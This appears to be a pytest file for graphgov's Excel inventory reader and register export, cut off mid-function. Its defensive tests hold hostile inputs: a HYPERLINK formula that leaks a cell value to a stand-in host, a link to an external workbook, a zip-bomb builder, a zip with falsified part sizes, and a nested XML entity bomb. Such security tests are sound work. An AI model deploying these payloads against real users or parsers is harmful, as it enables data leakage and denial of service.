"""Excel workbooks: the inventory reader (loaders/xlsxfile.py), the blank register
template and the register export (graphgov/register.py), on real files written and
read by openpyxl."""

from __future__ import annotations

import io
import re
import shutil
import tempfile
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import hostile
import pytest
from conftest import run_cli
from graphgov.loaders import xlsxfile
from graphgov.loaders.inventory import read_inventory
from graphgov.loaders.xlsxfile import read_xlsx
from hypothesis import HealthCheck, assume, given, settings
from openpyxl import Workbook, load_workbook
from strategies import GeneratedRecord, inventories, write

from graphgov import examples, pipeline
from graphgov.display import printable
from graphgov.errors import InvalidInputError, Problem
from graphgov.graph import GraphBatch
from graphgov.outputs.soa import workbook_bytes
from graphgov.register import LISTS, STAMP, register_workbook, template_workbook
from graphgov.schema import load_schema

SCHEMA = load_schema()
View = tuple[dict[str, tuple[str, dict[str, Any]]], set[tuple[str, str, str]]]


def view(batch: GraphBatch) -> View:
    nodes = {n.id: (n.label, dict(n.properties)) for n in batch.nodes}
    return nodes, {(r.type, r.start, r.end) for r in batch.relationships}


def shown_view(batch: GraphBatch) -> View:
    """What a register holds of ``batch``: every text as ``printable`` shows it."""

    def text(value: Any) -> Any:
        return printable(value) if isinstance(value, str) else value

    nodes = {
        printable(n.id): (n.label, {k: text(v) for k, v in n.properties.items()})
        for n in batch.nodes
    }
    rels = {(r.type, printable(r.start), printable(r.end)) for r in batch.relationships}
    return nodes, rels


def export(batch: GraphBatch, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(workbook_bytes(register_workbook(batch), STAMP))
    return path


def read_back(path: Path) -> GraphBatch:
    return pipeline.read(path.parent, cache=False)


def book(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    """A workbook at ``path`` with a sheet per entry, rows as given."""
    wb = Workbook()
    first = wb.active
    assert first is not None
    wb.remove(first)
    for title, rows in sheets.items():
        sheet = wb.create_sheet(title)
        for row in rows:
            sheet.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def read(path: Path) -> tuple[list[Any], list[Problem]]:
    return read_xlsx(path, str(path), path.name, None)


def reasons(problems: list[Problem]) -> list[str]:
    return [str(p) for p in problems]


def with_parts(path: Path, change: dict[str, Any]) -> Path:
    """Rewrite ``path`` with some zip parts changed: a callable gets the old bytes."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename in change:
                new = change[info.filename]
                data = new(data) if callable(new) else new
            target.writestr(info.filename, data)
    path.write_bytes(out.getvalue())
    return path


SHEET1 = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def acme() -> GraphBatch:
    with tempfile.TemporaryDirectory() as tmp:
        examples.write("acme", Path(tmp) / "acme")
        return pipeline.read(Path(tmp) / "acme", cache=False)


# -- the export reads back as the graph it came from -------------------------------------


def test_the_example_exported_as_a_register_reads_back_equal(
    acme: GraphBatch, tmp_path: Path
) -> None:
    path = export(acme, tmp_path / "register" / "acme.xlsx")
    back = read_back(path)
    assert view(back) == view(acme)
    # every kind has its sheet; provenance is the workbook, the sheet and the row
    sheets = load_workbook(path, read_only=True).sheetnames
    assert {s.plural for s in SCHEMA.labels.values() if not s.catalogue} <= set(sheets)
    assert {n.source.file for n in back.nodes} >= {"acme.xlsx!ai_systems", "acme.xlsx!risks"}
    assert all(n.source.line and n.source.line >= 2 for n in back.nodes)
    # dates are Excel dates, booleans and numbers typed cells
    wb = load_workbook(path)
    systems = wb["ai_systems"]
    header = [c.value for c in systems[1]]
    in_scope = header.index("in_scope")
    assert {type(row[in_scope].value) for row in systems.iter_rows(min_row=2)} == {bool}
    policies = wb["policies"]
    header = [c.value for c in policies[1]]
    approved = [r[header.index("approved_on")].value for r in policies.iter_rows(min_row=2)]
    assert approved and all(isinstance(v, datetime) for v in approved if v is not None)
    months = [r[header.index("review_interval_months")] for r in policies.iter_rows(min_row=2)]
    assert {c.data_type for c in months if c.value is not None} == {"n"}


def test_the_same_inventory_gives_the_same_bytes(acme: GraphBatch) -> None:
    reordered = GraphBatch(acme.nodes[::-1], acme.relationships[::-1], acme.origin)
    first = workbook_bytes(register_workbook(acme), STAMP)
    assert first == workbook_bytes(register_workbook(reordered), STAMP)


def test_the_template_is_the_same_bytes_every_time() -> None:
    def once() -> bytes:
        return workbook_bytes(template_workbook(pipeline.catalogue().nodes), STAMP)

    assert once() == once()


SETTINGS = settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@SETTINGS
@given(records=inventories(max_records=8))
def test_any_valid_inventory_reads_back_equal(records: list[GeneratedRecord]) -> None:
    """Every kind, the Organization, list references, dates, booleans, whole numbers and
    decimals survive the round trip; text exactly, as printable shows it."""
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "inv"
        write(records, root, set())
        batch = pipeline.read(root, cache=False)
        expected = shown_view(batch)
        assume(len(expected[0]) == len(batch.nodes))  # two ids escaping alike: no test
        back = read_back(export(batch, Path(tmp) / "out" / "register.xlsx"))
    assert view(back) == expected


def test_text_that_looks_like_a_formula_stays_text_and_reads_back(tmp_path: Path) -> None:
    """Formula-safe without changing the text: a string cell with Excel's quote prefix."""
    folder = tmp_path / "inv"
    folder.mkdir()
    (folder / "risks.csv").write_text(
        "id,name,description\n"
        + "\n".join(
            f'r{n},"{p.replace(chr(34), chr(34) * 2)}",x'
            for n, p in enumerate(hostile.SPREADSHEET[:6])
        )
        + "\n",
        encoding="utf-8",
    )
    batch = pipeline.read(folder, cache=False)
    path = export(batch, tmp_path / "out" / "r.xlsx")
    wb = load_workbook(path)
    cells = [c for row in wb["risks"].iter_rows(min_row=2) for c in row if c.value]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    starting = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@"))]
    assert starting and all(c.quotePrefix for c in starting)
    assert view(read_back(path)) == view(batch)


# -- the template ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("template") / "register.xlsx"
    assert run_cli("template", "--format", "xlsx", "-o", str(path))[0] == 0
    return path


def test_the_template_never_replaces_a_register_being_filled_in(
    template: Path, tmp_path: Path
) -> None:
    filled = tmp_path / "register.xlsx"
    shutil.copy(template, filled)
    before = filled.read_bytes()
    rc, _, err = run_cli("template", "--format", "xlsx", "-o", str(filled))
    assert rc == 2 and "exists" in err and "Traceback" not in err
    assert filled.read_bytes() == before


def test_the_template_has_a_sheet_per_kind_with_the_fields_as_header(template: Path) -> None:
    wb = load_workbook(template)
    kinds = [s for s in SCHEMA.labels.values() if not s.catalogue]
    for spec in kinds:
        assert [c.value for c in wb[spec.plural][1]] == list(spec.fields)
    assert wb[LISTS].sheet_state == "hidden"
    assert wb.sheetnames[0] == "About"


def test_the_template_marks_required_and_expected_columns(template: Path) -> None:
    wb = load_workbook(template)
    for spec in (s for s in SCHEMA.labels.values() if not s.catalogue):
        for cell, field in zip(wb[spec.plural][1], spec.fields.values(), strict=True):
            assert cell.comment is not None
            note = cell.comment.text
            prop = field.property
            if prop is not None and prop.required:
                assert cell.font.bold and note.startswith("Required"), (spec.plural, cell.value)
            elif prop is not None and prop.expected:
                assert cell.font.bold and note.startswith("Expected"), (spec.plural, cell.value)
            elif prop is not None:
                assert not cell.font.bold and note.startswith("Optional")
            if field.relation is not None:
                assert "separated by ';'" in note


def test_the_template_offers_drop_downs_and_date_columns(template: Path) -> None:
    wb = load_workbook(template)
    lists = wb[LISTS]
    for spec in (s for s in SCHEMA.labels.values() if not s.catalogue):
        sheet = wb[spec.plural]
        checks = {str(dv.sqref).split(":")[0]: dv for dv in sheet.data_validations.dataValidation}
        for index, field in enumerate(spec.fields.values(), start=1):
            prop = field.property
            letter = sheet.cell(row=1, column=index).column_letter
            dv = checks.get(f"{letter}2")
            if prop is None:
                assert dv is None
            elif prop.allowed:
                assert dv is not None and dv.type == "list"
                ref = re.fullmatch(r"'?Lists'?!\$([A-Z]+)\$2:\$\1\$(\d+)", dv.formula1 or "")
                assert ref, dv.formula1
                column = [c.value for c in lists[ref.group(1)]][1 : int(ref.group(2))]
                assert tuple(column) == prop.allowed
            elif prop.datatype == "boolean":
                assert dv is not None and dv.formula1 == '"TRUE,FALSE"'
            elif prop.datatype == "date":
                assert dv is not None and dv.type == "date"
                assert sheet.column_dimensions[letter].number_format == "yyyy-mm-dd"


def test_the_template_lists_the_annex_a_controls_for_decisions(template: Path) -> None:
    wb = load_workbook(template)
    sheet = wb["decisions"]
    header = [c.value for c in sheet[1]]
    rows = [
        dict(zip(header, [c.value for c in r], strict=True)) for r in sheet.iter_rows(min_row=2)
    ]
    controls = [n for n in pipeline.catalogue().nodes if n.label == "AnnexAControl"]
    assert len(rows) == len(controls) == 38
    assert [r["decides"] for r in rows][:3] == ["A.2.2", "A.2.3", "A.2.4"]
    assert all(r["id"] == f"soa-{r['decides']}" for r in rows)
    names = {n.id: n.name for n in controls}
    assert all(r["name"] == names[r["decides"]] for r in rows)
    # the same convention as the example organisation's decisions
    with tempfile.TemporaryDirectory() as tmp:
        examples.write("acme", Path(tmp) / "acme")
        first = (Path(tmp) / "acme" / "decisions.csv").read_text().splitlines()[1]
    assert first.startswith("soa-A.2.2,A.2.2,")


def test_the_blank_template_reads_back_without_errors(template: Path) -> None:
    batch = pipeline.read(template, cache=False)
    assert len(batch.nodes) == 38
    assert {r.type for r in batch.relationships} == {"DECIDES"}


def test_a_filled_in_template_reads_as_an_inventory(tmp_path: Path) -> None:
    wb = template_workbook(pipeline.catalogue().nodes)
    systems = wb["ai_systems"]
    header = [c.value for c in systems[1]]
    row = {"id": "chatbot", "name": "Chatbot", "in_scope": True, "risk_tier": "limited"}
    systems.append([row.get(h) for h in header])
    decisions = wb["decisions"]
    header = [c.value for c in decisions[1]]
    decisions.cell(row=2, column=header.index("applicable") + 1, value=False)
    decisions.cell(row=2, column=header.index("decided_on") + 1, value=date(2026, 3, 2))
    path = tmp_path / "inv" / "register.xlsx"
    path.parent.mkdir()
    wb.save(path)
    batch = pipeline.read(path.parent, cache=False)
    nodes = {n.id: n for n in batch.nodes}
    assert nodes["chatbot"].properties["in_scope"] is True
    assert nodes["soa-A.2.2"].properties["applicable"] is False
    assert nodes["soa-A.2.2"].properties["decided_on"] == date(2026, 3, 2)


# -- reading workbooks -------------------------------------------------------------------


def test_sheets_are_named_by_kind_or_plural_in_any_case_or_have_a_kind_column(
    tmp_path: Path,
) -> None:
    path = book(
        tmp_path / "inv" / "register.xlsx",
        {
            "Risks": [["id", "name", "level"], ["r1", "Drift", "high"]],
            "supplier": [["id", "name"], ["s1", "Vendor"]],
            "AI Systems": [
                ["id", "name", "in_scope", "risk_tier", "has_risk"],
                ["sys", "System", True, "high", "r1"],
            ],
            "Mixed": [["kind", "id", "name"], ["stakeholder", "st1", "Users"]],
        },
    )
    batch = pipeline.read(path.parent, cache=False)
    assert {n.id: n.label for n in batch.nodes} == {
        "r1": "Risk",
        "s1": "Supplier",
        "sys": "AISystem",
        "st1": "Stakeholder",
    }
    sources = {n.id: str(n.source) for n in batch.nodes}
    assert sources["r1"] == "register.xlsx!Risks:2"
    assert sources["st1"] == "register.xlsx!Mixed:2"
    assert ("HAS_RISK", "sys", "r1") in {(r.type, r.start, r.end) for r in batch.relationships}


def test_cells_are_read_by_what_they_hold(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {
            "policies": [
                [
                    "id",
                    "name",
                    "policy_type",
                    "approved_on",
                    "next_review",
                    "review_interval_months",
                ],
                ["p1", "AI policy", "ai_policy", datetime(2026, 3, 1), "2027-03-01", 12.0],
                ["p2", "Other", "ai_policy", date(2026, 1, 5), None, 6],
            ],
            "systems": [],
            "ai_systems": [
                ["id", "in_scope", "risk_tier", "uses_dataset", "ce_marked"],
                ["s", "TRUE", "minimal", "d1 ; d2", False],
            ],
            "datasets": [["id", "contains_personal_data"], ["d1", True], ["d2", "false"]],
        },
    )
    batch = pipeline.read(path.parent, cache=False)
    nodes = {n.id: dict(n.properties) for n in batch.nodes}
    assert nodes["p1"]["approved_on"] == date(2026, 3, 1)
    assert nodes["p1"]["next_review"] == date(2027, 3, 1)
    assert nodes["p1"]["review_interval_months"] == 12
    assert nodes["p2"]["approved_on"] == date(2026, 1, 5)
    assert nodes["s"]["in_scope"] is True and nodes["s"]["ce_marked"] is False
    assert nodes["d2"]["contains_personal_data"] is False
    rels = {(r.type, r.start, r.end) for r in batch.relationships}
    assert {("USES_DATASET", "s", "d1"), ("USES_DATASET", "s", "d2")} <= rels


def _cached(formula: str, value: str, kind: str = "str") -> Any:
    """Give the sheet's formula cell a saved value, as Excel writes it."""

    def change(data: bytes) -> bytes:
        text = data.decode()
        f = f"<f>{formula}</f>"
        assert f in text, text
        start = text.rindex("<c ", 0, text.index(f))
        cell = text[start : text.index(f) + len(f)]
        kept = re.sub(r' t="[^"]*"', "", cell.replace(f, ""))
        new = kept.replace("<c ", f'<c t="{kind}" ', 1) + f"{f}<v>{value}</v>"
        return text.replace(cell, new).encode()

    return change


def test_formulas_are_read_by_their_saved_value_and_never_followed(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {
            "risks": [
                ["id", "name", "description"],
                ["r1", '=HYPERLINK("https://example.invalid/?leak="&A2,"Click")', "x"],
                ["r2", "=A3", "y"],
            ]
        },
    )
    with_parts(
        path,
        {
            SHEET1: lambda d: _cached("A3", "r2", "str")(
                _cached('HYPERLINK("https://example.invalid/?leak="&amp;A2,"Click")', "Click")(d)
            )
        },
    )
    batch = pipeline.read(path.parent, cache=False)
    assert {n.id: n.properties["name"] for n in batch.nodes} == {"r1": "Click", "r2": "r2"}


def test_a_link_to_another_workbook_is_read_by_its_saved_value_never_opened(
    tmp_path: Path,
) -> None:
    secret = tmp_path / "secret.xlsx"
    book(secret, {"risks": [["id"], ["leaked"]]})
    formula = f"'{tmp_path}/[secret.xlsx]risks'!A2"
    path = book(tmp_path / "inv" / "r.xlsx", {"risks": [["id", "name"], ["r1", "=" + formula]]})
    with_parts(path, {SHEET1: _cached(formula, "as saved")})
    secret.unlink()  # were it opened, reading would fail
    batch = pipeline.read(path.parent, cache=False)
    assert [n.properties["name"] for n in batch.nodes] == ["as saved"]


def test_export_and_template_from_the_command_line(acme: GraphBatch, tmp_path: Path) -> None:
    folder = tmp_path / "acme"
    examples.write("acme", folder)
    out = tmp_path / "register" / "acme.xlsx"
    code, said, _ = run_cli("export", str(folder), "--format", "xlsx", "-o", str(out))
    assert code == 0 and said == f"Wrote {out}.\n"
    assert view(pipeline.read(out.parent, cache=False)) == view(acme)
    code, said, _ = run_cli(
        "export", str(folder), "--format", "xlsx", "-o", str(tmp_path / "a.bin")
    )
    assert code == 0 and "name it *.xlsx to read it back" in said
    code, _, err = run_cli("template", "--format", "xlsx")
    assert code == 2 and "-o" in err


def test_a_formula_without_a_saved_value_says_to_save_it_in_excel(tmp_path: Path) -> None:
    path = book(
        tmp_path / "r.xlsx",
        {"risks": [["id", "name", "level"], ["r1", '=UPPER("x")', "high"]]},
    )
    _, problems = read(path)
    assert reasons(problems) == [
        f"{path}!risks:2: name: (column B) is a formula saved without its value: open the "
        "workbook in Excel (or LibreOffice) and save it, so its values are saved with it"
    ]


def test_an_error_value_a_time_of_day_and_a_number_for_a_date_are_problems(
    tmp_path: Path,
) -> None:
    path = book(
        tmp_path / "r.xlsx",
        {
            "incidents": [
                ["id", "name", "occurred_on", "communicated_on", "severity"],
                ["i1", "=NA()", datetime(2026, 3, 1, 14, 30), 45000, "high"],
            ]
        },
    )
    with_parts(path, {SHEET1: _cached("NA()", "#N/A", "e")})
    _, problems = read(path)
    assert reasons(problems) == [
        f"{path}!incidents:2: name: (column B) holds the error #N/A: correct its formula",
        f"{path}!incidents:2: occurred_on: (column C) holds a date with a time of day "
        "(2026-03-01 14:30:00); a date here is a day: format the cell as a date, or write "
        "YYYY-MM-DD",
        f"{path}!incidents:2: communicated_on: (column D) holds the number 45000, not a "
        "date: format the cell as a date, or write YYYY-MM-DD",
    ]


def test_every_problem_names_file_sheet_row_field_and_column_at_once(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {
            "risks": [
                ["id", "name", "levl", "name"],
                ["r1", "A", "x", "y"],
                ["r2", "B", None, None, "stray"],
                ["r3", "C", None, None],
            ],
            "Budget 2026": [["item", "cost"], ["laptops", 100]],
        },
    )
    with pytest.raises(InvalidInputError) as caught:
        pipeline.read(path.parent, cache=False)
    shown = [str(p) for p in caught.value.problems]
    kinds = ", ".join(s.plural for s in SCHEMA.labels.values() if not s.catalogue)
    assert shown == [
        f"{path}!Budget 2026: cannot tell which kind of record this sheet holds: name the "
        f"sheet after the kind ({kinds}) or add a 'kind' column; a sheet of notes may be "
        "named About, Help, Instructions, Lists, Notes or README",
        f"{path}!risks:1: levl: unknown column for risks (column C) (did you mean 'level'?); "
        "columns may be: " + ", ".join(SCHEMA.labels["Risk"].fields),
        f"{path}!risks:1: name: column appears twice in the header row (column D)",
        f"{path}!risks:3: a value in column E, which has no name in the header row (a merged "
        "header cell names only its first column): name the column, or clear the cell",
    ]


def test_blank_rows_columns_note_sheets_and_empty_sheets_are_left_out(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {
            "README": [["This register is kept by the risk office."]],
            "Instructions": [["Fill in a row per risk"]],
            "empty": [],
            "risks": [
                [],
                [None, None],
                ["id", "name", None, None],
                [None, None, None],
                ["r1", "Drift", None, "  "],
                [],
                ["r2", "Bias"],
                [None],
            ],
        },
    )
    wb = load_workbook(path)
    wb["risks"].merge_cells("B3:D3")  # a merged header cell over empty columns
    wb.save(path)
    batch = pipeline.read(path.parent, cache=False)
    assert sorted(str(n.source) for n in batch.nodes) == ["r.xlsx!risks:5", "r.xlsx!risks:7"]


def test_a_cell_merged_down_gives_its_value_to_each_row_it_covers(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {
            "stakeholders": [["id", "name"], ["cro", "Chief risk officer"]],
            "risks": [
                ["id", "name", "owned_by", "level"],
                ["r1", "Drift", "cro", "high"],
                ["r2", "Bias", None, "low"],
                ["r3", "Leak", None, None],
                [None, None, None, None],
                ["r4", "Other", "cro", "medium"],
            ],
        },
    )
    wb = load_workbook(path)
    wb["risks"].merge_cells("C2:C5")  # r1 to r3 and the blank row: one owner
    wb["risks"].merge_cells("B6:D6")  # merged across: the name alone
    wb.save(path)
    batch = pipeline.read(path.parent, cache=False)
    owned = {(r.start, r.end) for r in batch.relationships if r.type == "OWNED_BY"}
    assert owned == {("r1", "cro"), ("r2", "cro"), ("r3", "cro")}
    nodes = {n.id: n for n in batch.nodes}
    assert nodes["r2"].properties["level"] == "low" and "level" not in nodes["r3"].properties
    assert sorted(str(n.source) for n in batch.nodes if n.label == "Risk") == [
        "r.xlsx!risks:2",
        "r.xlsx!risks:3",
        "r.xlsx!risks:4",
        "r.xlsx!risks:6",
    ]
    assert nodes["r4"].properties["name"] == "Other" and "level" not in nodes["r4"].properties


def test_a_hidden_sheet_is_read_like_any_other(tmp_path: Path) -> None:
    path = book(tmp_path / "inv" / "r.xlsx", {"risks": [["id", "name"], ["r1", "Drift"]]})
    wb = load_workbook(path)
    wb.create_sheet("suppliers").append(["id"])
    wb["suppliers"].append(["hidden-vendor"])
    wb["suppliers"].sheet_state = "hidden"
    wb.save(path)
    assert {n.id for n in pipeline.read(path.parent, cache=False).nodes} == {
        "r1",
        "hidden-vendor",
    }


def test_a_kind_column_in_a_sheet_named_for_a_kind_is_that_kind(tmp_path: Path) -> None:
    header = ["kind", "id", "name", "stakeholder_type"]
    rows = [header, [None, "cro", "CRO", "role"], ["Stakeholder", "u", "Users", "role"]]
    path = book(tmp_path / "inv" / "r.xlsx", {"stakeholders": rows})
    assert {n.id: n.label for n in read_back(path).nodes} == {
        "cro": "Stakeholder",
        "u": "Stakeholder",
    }
    path = book(
        tmp_path / "bad" / "r.xlsx",
        {"stakeholders": [*rows, ["supplier", "v", "Vendor", "role"]]},
    )
    with pytest.raises(InvalidInputError) as caught:
        read_back(path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}!stakeholders:4: kind: (column A) the sheet holds stakeholders, so this row "
        "cannot be a supplier: move the row to the sheet of its kind, or clear the kind cell"
    ]


def test_a_header_without_an_id_column_is_one_problem_not_one_a_row(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {"risks": [[], ["name", "level"], ["A", "low"], ["B", "high"], ["C", "low"]]},
    )
    with pytest.raises(InvalidInputError) as caught:
        read_back(path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}!risks:2: the header has no id column; add one, with each record's id: every "
        "record needs an id, unique in the inventory"
    ]


def test_a_hidden_sheet_of_no_kind_says_hidden_sheets_are_read(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {"risks": [["id"], ["r1"]], "Old risks": [["item"], ["r0"]]},
    )
    wb = load_workbook(path)
    wb["Old risks"].sheet_state = "hidden"
    wb.save(path)
    with pytest.raises(InvalidInputError) as caught:
        read_back(path)
    ((problem,),) = [caught.value.problems]
    assert problem.file == f"{path}!Old risks"
    assert problem.reason.endswith(
        "; this sheet is hidden, but hidden sheets are read like any other: delete the "
        "sheet, or move it to another workbook, to leave it out"
    )


def test_the_note_sheets_are_those_the_readme_names() -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    left_out = re.search(r"sheets named (.*?) \(the template", readme, re.DOTALL)
    assert left_out is not None
    assert re.findall(r"`([^`]+)`", left_out.group(1)) == list(xlsxfile.NOTE_SHEETS)
    assert LISTS in xlsxfile.NOTE_SHEETS and "About" in xlsxfile.NOTE_SHEETS


def test_a_sheet_whose_declared_size_is_wrong_is_read_whole(tmp_path: Path) -> None:
    path = book(tmp_path / "r.xlsx", {"risks": [["id"], ["r1"], ["r2"], ["r3"]]})
    with_parts(
        path, {SHEET1: lambda d: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1"/>', d)}
    )
    records, problems = read(path)
    assert problems == [] and [r.fields["id"].text for r in records] == ["r1", "r2", "r3"]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (
            "r.xlsm",
            "is a macro-enabled workbook (.xlsm), which graphgov does not read: save it as an "
            "Excel Workbook (.xlsx)",
        ),
        (
            "r.xls",
            "is an Excel 97-2003 workbook (.xls), which graphgov does not read: save it as an "
            "Excel Workbook (.xlsx)",
        ),
    ],
)
def test_macro_and_old_workbooks_are_refused_in_one_line(
    tmp_path: Path, name: str, reason: str
) -> None:
    folder = tmp_path / "inv"
    book(folder / name, {"risks": [["id"], ["r1"]]})
    (folder / "org.yaml").write_text("kind: organization\nid: acme\nname: Acme\n")
    code, _, err = run_cli("validate", str(folder))
    assert code == 1
    assert err.splitlines()[0] == f"{folder / name}: {reason}"
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "file is empty"),
        (b"id,name\nr1,x\n", "is not an Excel workbook (an .xlsx file is a zip archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97-2003 (.xls) or a password"),
        (b"PK\x03\x04" + b"\0" * 100, "is not an Excel workbook"),
    ],
)
def test_a_file_that_is_no_workbook_is_one_problem(
    tmp_path: Path, content: bytes, reason: str
) -> None:
    path = tmp_path / "r.xlsx"
    path.write_bytes(content)
    records, problems = read(path)
    assert records == [] and len(problems) == 1 and reason in problems[0].reason


def test_a_zip_with_parts_missing_is_one_problem(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
    records, problems = read(path)
    assert records == [] and len(problems) == 1
    assert problems[0].reason.startswith("cannot be read as an Excel workbook")


def test_excel_lock_files_are_not_workbooks(tmp_path: Path) -> None:
    folder = tmp_path / "inv"
    book(folder / "r.xlsx", {"risks": [["id"], ["r1"]]})
    (folder / "~$r.xlsx").write_bytes(b"\x05owner" + b"\0" * 150)
    assert {n.id for n in pipeline.read(folder, cache=False).nodes} == {"r1"}


# -- hostile workbooks ---------------------------------------------------------------------


def _bomb(path: Path, size: int, name: str = SHEET1) -> Path:
    """A real zip bomb: a workbook whose sheet is ``size`` bytes of one character."""
    base = book(tmp := path.with_suffix(".base.xlsx"), {"risks": [["id"], ["r1"]]})
    source = zipfile.ZipFile(base)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
        with target.open(name, "w", force_zip64=True) as stream:
            block = b" " * (1 << 20)
            for _ in range(size >> 20):
                stream.write(block)
    source.close()
    tmp.unlink()
    return path


def test_a_zip_bomb_is_refused_in_one_line(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx", 64 << 20)
    assert path.stat().st_size < 1 << 20
    records, problems = read(path)
    assert records == [] and len(problems) == 1
    assert re.fullmatch(
        r"its part 'xl/worksheets/sheet1.xml' expands [\d,]+ times \(to 67,108,864 bytes\): "
        r"a zip bomb, refused",
        problems[0].reason,
    )


def test_a_zip_that_understates_a_part_is_read_no_further_than_it_says(tmp_path: Path) -> None:
    """The zip directory's sizes bound what is unpacked, even when they lie: a bomb
    whose directory says its sheet is 1,000 bytes is read to 1,000 bytes and refused."""
    path = tmp_path / "liar.xlsx"
    base = book(tmp_path / "base.xlsx", {"risks": [["id"], ["r1"]]})
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            if info.filename != SHEET1:
                z.writestr(info.filename, source.read(info.filename))
        z.writestr(SHEET1, b" " * (64 << 20))
    data = bytearray(path.read_bytes())
    entry = data.index(b"PK\x01\x02")
    while True:  # the central directory entry of the sheet
        name_length = int.from_bytes(data[entry + 28 : entry + 30], "little")
        if data[entry + 46 : entry + 46 + name_length] == SHEET1.encode():
            break
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    records, problems = read(path)
    assert records == [] and len(problems) == 1
    assert problems[0].reason.startswith("cannot be read as an Excel workbook")


def test_a_workbook_that_unpacks_past_the_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsxfile, "MAX_UNPACKED", 8 << 20)
    path = _bomb(tmp_path / "big.xlsx", 16 << 20)
    _, problems = read(path)
    assert [p.reason.split(";")[0] for p in problems] == [
        "would unpack to 16,7" + problems[0].reason.split(";")[0][20:]
    ]
    assert "the limit is 8,388,608" in problems[0].reason


ENTITY_BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize("padding", [0, 10_000])
def test_an_xml_entity_bomb_is_refused(tmp_path: Path, padding: int) -> None:
    """Refused by graphgov's own look at the XML's start, or, with the DTD further in,
    by defusedxml, which openpyxl parses through."""
    path = book(tmp_path / "r.xlsx", {"risks": [["id"], ["r1"]]})
    text = ENTITY_BOMB.replace("\n<!DOCTYPE", "\n" + "<!-- pad -->" * (padding // 12) + "<!DOCTYPE")
    with_parts(path, {SHEET1: text.encode()})
    records, problems = read(path)
    assert records == [] and len(problems) == 1
    assert "declares entities (a DTD)" in problems[0].reason


def test_a_sheet_of_100_000_rows_reads(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    sheet = wb.create_sheet("risks")
    sheet.append(["id", "name", "level"])
    for n in range(100_000):
        sheet.append([f"r{n}", f"Risk {n}", "low"])
    path = tmp_path / "big.xlsx"
    wb.save(path)
    records, problems = read(path)
    assert problems == [] and len(records) == 100_000
    assert str(records[-1].source) == "big.xlsx!risks:100001"


def test_more_rows_than_the_limit_is_one_problem(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsxfile, "MAX_ROWS", 3)
    path = book(tmp_path / "r.xlsx", {"risks": [["id"], ["a"], ["b"], ["c"], ["d"], ["e"]]})
    records, problems = read(path)
    assert records == []
    assert reasons(problems) == [
        f"{path}!risks:5: the workbook has more than 3 rows; split it into several"
    ]


def test_the_hostile_inventory_exported_reads_back_as_shown(tmp_path: Path) -> None:
    batch = pipeline.read(hostile.write(tmp_path / "corpus"), cache=False)
    path = export(batch, tmp_path / "out" / "hostile.xlsx")
    check_register(path, batch)


def check_register(path: Path, batch: GraphBatch) -> None:
    """What a user of an exported register may rely on (for the hostile-outputs suite
    too): no cell is a formula, none holds a character that acts on a terminal or hides
    text, and it reads back as the batch, every text as printable shows it."""
    wb = load_workbook(path)
    cells = [c for sheet in wb for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and hostile.unsafe(c.value)] == []
    with tempfile.TemporaryDirectory() as tmp:
